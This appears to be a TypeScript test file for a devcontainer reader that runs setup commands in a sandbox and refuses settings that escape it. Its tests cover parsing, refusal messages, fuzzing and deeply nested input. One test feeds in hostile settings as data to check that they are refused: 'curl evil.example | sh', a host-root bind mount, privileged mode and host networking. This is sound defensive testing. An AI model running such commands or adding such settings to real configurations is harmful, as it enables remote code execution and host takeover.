// Of a devcontainer its commands are run; what would reach beyond the sandbox is left out, with a sentence.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { readDevcontainer } from './devcontainer.ts';

test('the commands of a devcontainer are taken in their order, whatever their form, with comments and commas in the file', () => {
  const { commands, refusals, image } = readDevcontainer(`{
    // for everybody
    "name": "app",
    "postCreateCommand": { "a": "npm ci", "b": ["echo", "it's \\"b\\""] }, /* two */
    "onCreateCommand": "apt list",
    "image": "node:24",
    "features": { "ghcr.io/devcontainers/features/node:1": { "version": "lts" } },
  }`);
  assert.deepEqual(commands, ['apt list', 'npm ci', `'echo' 'it'\\''s "b"'`]);
  assert.deepEqual(refusals, ["Of its features the engine's own image has these: node."]);
  assert.equal(image, 'node:24');
});

test('what reaches beyond the sandbox is refused, each with a sentence', () => {
  const wishes = {
    privileged: true,
    capAdd: ['SYS_PTRACE'],
    securityOpt: ['seccomp=unconfined'],
    mounts: ['source=/,target=/host,type=bind'],
    workspaceMount: 'source=/,target=/w,type=bind',
    runArgs: ['--network=host', '--privileged'],
    initializeCommand: 'curl evil.example | sh',
    build: { dockerfile: 'Dockerfile' },
    dockerComposeFile: 'docker-compose.yml',
    image: 'name with spaces:latest',
    features: { 'ghcr.io/devcontainers/features/docker-in-docker:2': {} },
  };
  for (const [name, value] of Object.entries(wishes)) {
    const { commands, refusals } = readDevcontainer(JSON.stringify({ [name]: value }));
    assert.deepEqual(commands, [], name);
    assert.equal(refusals.length, 1, name);
    assert.match(refusals[0] ?? '', /\.$/);
  }
  assert.deepEqual(readDevcontainer('{"privileged":false,"mounts":[],"runArgs":[]}').refusals, []);
});

test('any text is read or refused in bounded sentences, and never fails', () => {
  for (const text of ['', 'null', '[]', '{', '"x"', '{"image":'])
    assert.equal(readDevcontainer(text).refusals.length, 1);
  const values = fc.oneof(
    fc.string(),
    fc.jsonValue().map((value) => JSON.stringify(value)),
  );
  const fields = fc.dictionary(
    fc.constantFrom('image', 'containerEnv', 'remoteEnv', 'mounts', 'features', 'postCreateCommand', 'runArgs'),
    fc.jsonValue(),
  );
  fc.assert(
    fc.property(
      fc.oneof(
        values,
        fields.map((value) => JSON.stringify(value)),
      ),
      (text) => {
        const { commands, refusals } = readDevcontainer(text);
        assert.ok([...commands, ...refusals].every((line) => typeof line === 'string'));
        assert.ok(refusals.every((line) => line.length < 500));
      },
    ),
  );
});

test('a hostile devcontainer is left out, with a sentence', () => {
  for (const text of ['['.repeat(100_000), '{"a":'.repeat(100_000), '{"image":{"toString":1}}']) {
    const { commands, refusals } = readDevcontainer(text);
    assert.deepEqual(commands, []);
    assert.equal(refusals.length, 1);
  }
});
